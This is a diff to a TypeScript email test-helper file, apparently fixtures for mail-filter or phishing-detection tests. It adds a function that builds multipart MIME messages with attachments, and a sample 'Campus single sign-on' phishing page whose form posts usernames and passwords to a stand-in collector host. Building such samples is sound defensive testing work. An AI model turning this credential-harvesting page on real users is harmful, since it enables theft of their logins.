@@ -25,3 +25,18 @@ export function mail(subject: string, body: string, from = 'helpdesk@outside.tes
   return Buffer.from(`From: ${from}\r\nTo: someone@campus.test\r\nSubject: ${subject}\r\nMessage-ID: <${Math.random().toString(36).slice(2)}@outside.test>\r\nDate: Tue, 01 Dec 2026 10:00:00 +0000\r\n\r\n${body.replace(/\n/g, '\r\n')}\r\n`);
 }
 
+
+/** A multipart message with the given attachments (base64). */
+export function mailWithFiles(subject: string, body: string, files: { name: string; type: string; content: Buffer }[]): Buffer {
+  const b = 'b0undary';
+  const parts = [
+    `--${b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${body.replace(/\n/g, '\r\n')}\r\n`,
+    ...files.map((f) => `--${b}\r\nContent-Type: ${f.type}; name="${f.name}"\r\nContent-Disposition: attachment; filename="${f.name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${f.content.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`),
+  ];
+  return Buffer.from(
+    `From: helpdesk@outside.test\r\nTo: someone@campus.test\r\nSubject: ${subject}\r\nMessage-ID: <${Math.random().toString(36).slice(2)}@outside.test>\r\nDate: Tue, 01 Dec 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n${parts.join('')}--${b}--\r\n`,
+  );
+}
+
+/** A phishing payload of the kind sent as an attachment: a login page. */
+export const LOGIN_PAGE = Buffer.from(`<html><body><form action="http://collect.example/p" method="post"><h1>Campus single sign-on</h1>${'<input name="u"><input type="password" name="p">'.repeat(8)}<button>Sign in</button></form></body></html>`);
